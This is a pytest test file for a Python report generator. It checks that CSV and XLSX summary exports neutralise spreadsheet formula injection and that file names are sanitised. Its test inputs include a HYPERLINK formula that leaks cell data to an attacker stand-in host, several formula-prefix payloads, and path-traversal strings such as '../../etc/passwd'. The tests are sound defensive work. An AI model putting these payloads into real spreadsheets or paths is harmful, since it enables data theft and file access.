"""Summary rows, the one neutralising function, CSV/XLSX writers and safe file names."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest

from formgen.names import safe_stem, stems_for, submission_stem, unique_stem
from formgen.summary import COLUMNS, SummaryRow, csv_bytes, neutralise, row_for, xlsx_bytes

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"klicka")', "@SUM(1)", "+1", "-2", "\tTAB", "\rCR",
           "\x01=1+1", "ok\x00text\x1f"]


def _row(kommun: str, first_error: str | None = None) -> SummaryRow:
    return SummaryRow(file=kommun, kommun=kommun, year=2020, status="errors", errors=1, warnings=2,
                      first_error=first_error or kommun, first_error_code="x", klienter_kvinnor=3,
                      klienter_man=-4, ombud_tjanster=1.5, beviljat_kr=100, forbrukat_kr=None)


@pytest.mark.parametrize("text", HOSTILE)
def test_neutralise_text(text: str) -> None:
    out = neutralise(text)
    assert not out.startswith(("=", "+", "-", "@", "\t", "\r", "\n"))
    assert not any(ord(c) < 32 and c not in "\t\r\n" for c in out)


def test_neutralise_keeps_numbers_and_plain_text() -> None:
    assert neutralise(-2) == -2 and neutralise(1.5) == 1.5 and neutralise(None) is None
    assert neutralise("Spånga-Tensta") == "Spånga-Tensta"
    assert neutralise("-2") == "'-2"


def test_csv_is_neutralised() -> None:
    data = csv_bytes([_row(k) for k in HOSTILE]).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(data, newline="")))
    assert rows[0] == list(COLUMNS)
    for row in rows[1:]:
        for cell in (row[0], row[1], row[6]):
            assert cell.startswith("'") or not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
        assert row[8] == "3" and row[9] == "-4"  # numbers stay numbers (not quoted)


def test_xlsx_has_no_formulas_and_numbers_stay_numbers() -> None:
    wb = openpyxl.load_workbook(io.BytesIO(xlsx_bytes([_row(k) for k in HOSTILE])))
    ws = wb.active
    header = [c.value for c in ws[1]]
    assert header == list(COLUMNS)
    for row in ws.iter_rows(min_row=2):
        for cell in row:
            assert cell.data_type != "f", cell.value
            if isinstance(cell.value, str):
                assert not cell.value.startswith(("=", "+", "-", "@", "\t", "\r"))
        assert row[8].value == 3 and row[9].value == -4 and row[10].value == 1.5
        assert row[12].value is None


def test_row_for_reads_key_figures() -> None:
    record = {"ar": 2020, "kontakt": {"kommun": "Åre"}, "klienter": {"totalt": {"kvinnor": 3, "man": 4}},
              "ombud": {"tjanster": "1.50"}, "ekonomi": {"beviljat_kr": 10, "forbrukat_kr": 11}}
    findings = [{"code": "w", "severity": "warning", "fields": [], "message": "varning"},
                {"code": "e", "severity": "error", "fields": [], "message": "första felet"},
                {"code": "e2", "severity": "error", "fields": [], "message": "andra"}]
    row = row_for("a.pdf", record, findings)
    assert (row.kommun, row.year, row.status, row.errors, row.warnings) == ("Åre", 2020, "errors", 2, 1)
    assert (row.first_error, row.first_error_code) == ("första felet", "e")
    assert (row.klienter_kvinnor, row.klienter_man, row.ombud_tjanster) == (3, 4, 1.5)
    assert row_for("b", None, findings[:1], unreadable=True).status == "unreadable"
    assert row_for("c", record, findings[:1]).status == "warnings"
    assert row_for("d", record, []).status == "ok"


@pytest.mark.parametrize("name", ["../../etc/passwd", "a/b", "..", ".", "CON", "con", "nul", "", None, "a\\b",
                                  "=HYPERLINK(1)", "\x00\x01", "ÅÄÖ åäö", "x" * 500, "/"])
def test_safe_stem(name: str | None) -> None:
    stem = safe_stem(name)
    assert stem and stem not in (".", "..")
    assert "/" not in stem and "\\" not in stem and ".." not in stem
    assert stem.isascii() and len(stem) <= 60
    assert stem.lower() not in {"con", "prn", "aux", "nul"}
    assert all(c.isalnum() or c == "-" for c in stem)


def test_names_fold_and_are_unique() -> None:
    assert safe_stem("Spånga-Tensta Stadsdelsförvaltning") == "spanga-tensta-stadsdelsforvaltning"
    assert submission_stem("Åre", 2020) == "are-2020"
    assert stems_for([("Åre", 2020), ("Are", 2020), ("ÅRE", 2020)]) == ["are-2020", "are-2020-2", "are-2020-3"]
    taken = {"x" * 68}
    assert len(unique_stem("x" * 68, taken)) <= 68 and len(taken) == 2
